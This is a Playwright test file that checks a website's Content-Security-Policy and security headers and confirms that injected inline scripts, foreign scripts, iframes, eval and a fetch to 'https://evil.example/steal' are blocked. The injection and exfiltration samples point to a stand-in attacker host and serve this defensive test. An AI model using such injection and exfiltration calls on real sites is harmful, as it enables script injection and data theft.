import { expect, test } from "./support/test.ts";

test("X2: the built site sends the policy, and nothing weaker than it", async ({ request }) => {
  const { "content-security-policy": policy = "", ...headers } = (await request.get("/")).headers();
  for (const directive of [
    "default-src 'none'",
    "object-src 'none'",
    "base-uri 'none'",
    "frame-ancestors 'none'",
  ]) {
    expect(policy).toContain(directive);
  }
  expect(policy).toMatch(/script-src 'self' 'sha256-[^']+' 'sha256-[^']+' https:\/\/js\.stripe\.com;/);
  expect(policy).not.toContain("unsafe-eval");
  expect(headers["x-content-type-options"]).toBe("nosniff");
  expect(headers["referrer-policy"]).toBe("strict-origin-when-cross-origin");
  expect(headers["strict-transport-security"]).toContain("max-age=");
});

for (const path of ["/admin", "/admin/prompts", "/dashboard", "/dashboard/subscription"]) {
  test(`X2: ${path} is sent with no-cache headers`, async ({ request }) => {
    expect((await request.get(path)).headers()["cache-control"]).toContain("no-cache");
  });
}

test.describe("an injection", () => {
  test.use({ expectedConsoleErrors: [/Content Security Policy|violates the following/] });

  test("X2: inline scripts, foreign scripts, frames and calls are blocked", async ({ page }) => {
    await page.goto("/pricing");
    const violated = await page.evaluate(async () => {
      const seen: string[] = [];
      document.addEventListener("securitypolicyviolation", (event) => seen.push(event.effectiveDirective));
      const inline = document.createElement("script");
      inline.textContent = "window.injected = true";
      const foreign = document.createElement("script");
      foreign.src = "https://evil.example/x.js";
      const frame = document.createElement("iframe");
      frame.src = "https://evil.example/";
      document.body.append(inline, foreign, frame);
      await fetch("https://evil.example/steal").catch(() => undefined);
      try {
        // biome-ignore lint/security/noGlobalEval: the policy must refuse it
        eval("window.injected = true");
      } catch {
        seen.push("eval refused");
      }
      await new Promise((resolve) => requestAnimationFrame(resolve));
      return seen;
    });
    expect(new Set(violated)).toEqual(
      new Set(["script-src-elem", "frame-src", "connect-src", "script-src", "eval refused"]),
    );
    expect(await page.evaluate(() => "injected" in window)).toBe(false);
  });
});
